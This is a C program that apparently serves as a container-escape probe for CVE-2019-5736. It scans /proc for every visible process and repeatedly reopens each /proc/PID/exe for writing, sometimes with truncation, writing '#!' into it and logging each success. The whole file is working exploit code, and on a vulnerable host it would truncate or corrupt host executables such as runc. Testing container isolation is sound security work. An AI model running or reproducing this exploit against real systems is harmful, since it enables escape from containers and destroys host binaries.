/* exe_writer SECONDS FILE: tries to overwrite the executable of every process that it can see (CVE-2019-5736), for SECONDS; what it got to
 * write at goes to FILE. A successful open for writing of anything that is not in its own root file system is an escape. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int own(const char* target) { return strstr(target, "/bin/busybox") != 0 || strstr(target, "/bin/exe_writer") != 0; }

static void attack(const char* pid, FILE* log) {
  char path[64], again[64], target[PATH_MAX] = "";
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  if (readlink(path, target, sizeof target - 1) < 0 || own(target)) return;
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 200; i++) {
    int w = open(i % 2 ? again : path, O_WRONLY | (i % 3 == 0 ? O_TRUNC : 0) | O_CLOEXEC);
    if (w >= 0) {
      fprintf(log, "WRITE %s\n", target);
      if (write(w, "#!", 2) == 2) fprintf(log, "WROTE %s\n", target);
      fflush(log);
      close(w);
    }
  }
  fprintf(log, "seen %s\n", target);
  close(fd);
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  FILE* log = fopen(argv[2], "w");
  time_t end = time(0) + atoi(argv[1]);
  if (log == 0) return 1;
  while (time(0) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* e; proc != 0 && (e = readdir(proc)) != 0;)
      if (e->d_name[0] >= '1' && e->d_name[0] <= '9') attack(e->d_name, log);
    if (proc != 0) closedir(proc);
  }
  fputs("end\n", log);
  return fclose(log);
}
